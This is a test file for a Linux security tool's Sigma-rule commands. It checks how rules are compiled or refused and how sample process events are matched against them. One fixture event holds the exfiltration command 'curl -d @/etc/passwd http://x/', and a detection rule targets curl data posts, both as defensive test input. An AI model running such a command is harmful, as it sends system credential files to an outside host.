// `clawav sigma check` and `clawav sigma test` as a user runs them: per-rule verdicts, the
// summary line, exit codes, and errors that name the file and line.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { runCli } from "../helpers/system.js";

const rule = (product: string, sel: string) => `title: A rule\nlogsource:\n  product: ${product}\n  category: process_creation\ndetection:\n  sel:\n${sel}\n  condition: sel\nlevel: high\ntags:\n  - attack.execution\n  - attack.t1059.004\n`;

describe("clawav sigma", () => {
  let dir = "";
  let good = "";
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), "clawav-sigma-cli-"));
    good = join(dir, "good");
    for (const d of [good, join(dir, "mixed")]) rmSync(d, { recursive: true, force: true });
    mkdirSync(join(good, "nested"), { recursive: true });
    mkdirSync(join(dir, "mixed"));
    writeFileSync(join(good, "nested", "curl_pipe.yml"), rule("linux", "    Image|endswith: '/curl'\n    CommandLine|contains: ' -d '"));
    writeFileSync(join(dir, "mixed", "a_ok.yml"), rule("linux", "    Image|endswith: '/curl'"));
    writeFileSync(join(dir, "mixed", "b_windows.yml"), rule("windows", "    Image|endswith: '\\\\cmd.exe'"));
    writeFileSync(join(dir, "mixed", "c_bad.yml"), "title: broken\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel: [unclosed\n");
    writeFileSync(join(dir, "mixed", "d_field.yml"), rule("linux", "    Hashes|contains: 'abc'"));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("check: one line per rule, the summary, exit 1 only for a malformed file", async () => {
    const r = await runCli(["sigma", "check", join(dir, "mixed")]);
    expect(r.code, r.stderr).toBe(1);
    const lines = r.stdout.trim().split("\n");
    expect(lines[0]).toBe("compiled  sigma/a_ok [process_creation] level high -> critical EXECUTION T1059.004");
    expect(lines[1]).toBe(`refused   ${join(dir, "mixed", "b_windows.yml")}: logsource product windows: clawav watches Linux`);
    expect(lines[2]).toMatch(new RegExp(`^malformed ${join(dir, "mixed", "c_bad.yml").replace(/[.]/g, "\\.")}:\\d+: `));
    expect(lines[3]).toMatch(/^refused {3}.*d_field\.yml: field Hashes: /);
    expect(lines[4]).toMatch(/^sigma: 1 of 4 rules compiled, 2 refused, 1 malformed \(\d+ ms\)$/);
    expect(r.stderr).toBe("");
  });

  it("check: rules found below the folder, exit 0; -q keeps only what is not compiled", async () => {
    const r = await runCli(["sigma", "check", good]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^compiled {2}sigma\/curl_pipe \[process_creation\]/);
    const q = await runCli(["sigma", "check", "-q", good]);
    expect(q.stdout).toMatch(/^sigma: 1 of 1 rules compiled, 0 refused, 0 malformed \(\d+ ms\)\n$/);
  });

  it("check: a folder that is not there is named, exit 66", async () => {
    const r = await runCli(["sigma", "check", join(dir, "nope")]);
    expect(r.code).toBe(66);
    expect(r.stderr).toBe(`clawav: sigma check: ${join(dir, "nope")}: no such file or folder\n`);
  });

  it("test: the rules an event matches and the selections that held; a bad line is named", async () => {
    const ev = (argv: string[], exe: string) => JSON.stringify({ id: "0000000000000001", ts: 1, source: "auditd", kind: "exec", node_id: "n", fidelity: "kernel", process: { pid: 5, ppid: 4, uid: 1000, euid: 1000, auid: null, exe, comm: exe.split("/").pop(), argv } });
    const f = join(dir, "events.ndjson");
    writeFileSync(f, `${ev(["curl", "-d", "@/etc/passwd", "http://x/"], "/usr/bin/curl")}\n${ev(["ls"], "/usr/bin/ls")}\n`);
    const r = await runCli(["sigma", "test", good, "--event", f]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(
      `${f}:1 exec curl -d @/etc/passwd http://x/:\n  critical sigma/curl_pipe (process_creation, level high) A rule\n    because: sel\n` +
        `${f}:2 exec ls: no Sigma rule matches\n2 events, 1 match of 1 rules\n`,
    );
    writeFileSync(f, `${ev(["ls"], "/usr/bin/ls")}\n{"id": 3\n`);
    const bad = await runCli(["sigma", "test", good, "--event", f]);
    expect(bad.code).toBe(65);
    expect(bad.stderr).toMatch(new RegExp(`^clawav: sigma test: ${f.replace(/[.]/g, "\\.")}:2: `));
  });
});
